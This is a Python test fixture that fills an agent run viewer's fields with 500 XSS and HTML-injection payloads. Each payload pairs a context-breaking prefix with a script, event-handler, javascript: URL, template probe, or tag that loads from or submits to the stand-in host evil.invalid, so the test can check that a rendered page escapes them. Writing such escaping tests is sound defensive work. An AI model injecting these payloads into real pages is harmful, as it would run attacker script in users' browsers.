"""Five hundred pieces of text that want to be more than text, in every field of runs that a page shows."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

from agent.review.records import FILE
from agent.run_folder import RunFolder
from tests.scripted_run import case_of, level, make_run, prediction, turns

BREAKS = (
    "", '">', "'>", "</pre>", "</style>", "</script>", "</title>", "</textarea>", "-->", "]]>",
    "</code></td></tr></table>", "</option></select>", '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)",
    "</summary></details>", "</form>", "<!--", "</main></body></html>", "</svg>", "</a>", "\u2028", "\x00",
    "&quot;&gt;", "%22%3E", "</noscript>",
)  # fmt: skip
ACTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<a href=javascript:alert(1)>here</a>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button>go</button></form>",
    "<style>@import url(http://evil.invalid/)</style>",
    "<img src=http://evil.invalid/p.png>",
    "<object data=http://evil.invalid/></object>",
    "<embed src=http://evil.invalid/>",
    "<video poster=http://evil.invalid/ src=http://evil.invalid/>",
    "<details open ontoggle=alert(1)>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "<math><mtext><style><img src onerror=alert(1)>",
    "\u202e\x1b[31m<script>document.title = 'evil'</script>",
    "<input onfocus=alert(1) autofocus>",
    "`<script>fetch('http://evil.invalid/')</script>`",
)
PAYLOADS = tuple(f"{before}{act}" for before in BREAKS for act in ACTS)
GROUPS = tuple(PAYLOADS[k : k + 20] for k in range(0, 500, 20))


def make_hostile_runs(root: Path) -> Path:
    """Make one run that holds every payload in every list, and 25 that hold twenty each in single fields."""
    many = root / "many"
    make_run(many, hostile_turns(PAYLOADS[1]), case=case_of(behaviour=" ".join(PAYLOADS)))
    with RunFolder(many, write=True) as folder:
        for number, text in enumerate(PAYLOADS):
            for kind, data in events(number, text):
                folder.append(kind, data)
        add_experiments(folder)
    add_reviews(many)
    make_small(root)
    return many


def hostile_turns(text: str) -> list[Any]:
    """Return turns that register a prediction whose names are hostile."""
    rival = {"name": text, "arm": level("date")}
    said = turns(summary=text, interpretations={"P1": text})
    call = said[1].calls[0]
    register = {"predictions": [prediction(rivals=[rival])]}
    said[1] = said[1].model_copy(
        update={"calls": (call.model_copy(update={"arguments": register}),)}
    )
    return said


def events(number: int, text: str) -> list[tuple[str, dict[str, Any]]]:
    """Return events that hold a text wherever somebody else's words may stand."""
    call = {"id": "c", "name": text, "arguments": {text: [text]}, "parse_error": text}
    return [
        (
            "turn",
            {"text": text, "thinking": text, "calls": [call], "cut": text, "refusal": text},
        ),
        ("call_result", {"call": "c", "name": text, "result": {text: text}}),
        ("call_result", {"call": "c", "name": text, "error": text}),
        (
            "hypothesis",
            {"id": f"H{number + 4}", "claim": text, "family": text, "rivals": [text], "prior": 0.5},
        ),
        ("note", {"text": text, "turn": 1}),
        ("spent", {"role": text, "model": text, "spent": {"input_tokens": 1}}),
        (text, {"a kind of event": text}),
    ]


def add_experiments(folder: RunFolder) -> None:
    """Add an experiment for every twenty payloads, whose names, rows and errors are hostile."""
    before = len(list(folder.of_type("experiment")))
    for number, group in enumerate(GROUPS):
        rows = [row(text) for text in group]
        raw = folder.put_json({"arms": {group[0]: rows, "plain": rows}})
        content = {
            "tool": group[0], "arguments": {text: text for text in group}, "seed": 1, "models": {}, "code": "0" * 64,
            "result": {"raw": raw, "found": list(group)}, "error": " ".join(group), "error_kind": "investigator",
        }  # fmt: skip
        folder.append(
            "experiment",
            {
                "number": before + number + 1, "key": "k", "tool": group[0], "purpose": "exploration",
                "blob": folder.put_json(content), "failed": True, "seconds": 1.0,
            },
        )  # fmt: skip


def row(text: str) -> dict[str, Any]:
    """Return a raw row made of a text."""
    prompt = {"messages": [{"role": text, "content": text}], "prefill": text}
    return {
        "id": text,
        "template_id": text,
        "prompt": prompt,
        "outputs": [text],
        "scores": [0.5],
    }


def add_reviews(run: Path) -> None:
    """Add a review of everybody's on one finding, and one's own so that they are seen."""
    digest = hashlib.sha256(b"").hexdigest()
    said = {"finding": "N1", "verdict": "reject", "at": PAYLOADS[1], "report": digest}
    lines = [
        json.dumps(said | {"reviewer": "ann", "comment": "</textarea><script>alert(1)</script>"})
    ]
    for number, text in enumerate(PAYLOADS):
        who = f"{number} {text}"[:60]
        lines.append(json.dumps(said | {"reviewer": who, "comment": text}))
    (run / FILE).write_text("\n".join(lines) + "\n")


def make_small(root: Path) -> None:
    """Make a run for every twenty payloads: its question, its investigator, its name and its end are hostile."""
    first = RunFolder(root / "many").events[0].data
    for number, group in enumerate(GROUPS):
        name = f"{number} {group[number % 20]}"
        kept = "".join(c for c in name if c.isprintable() and c != "/")[:80]
        told = " ".join(group)
        case = {**first["case"], "behaviour": told}
        with RunFolder.create(root / kept) as folder:
            folder.append("run_opened", {**first, "case": case, "investigator": told})
            folder.append("clock", {"minutes": 1.0, "limit": told})
            folder.append("run_ended", {"reason": told})
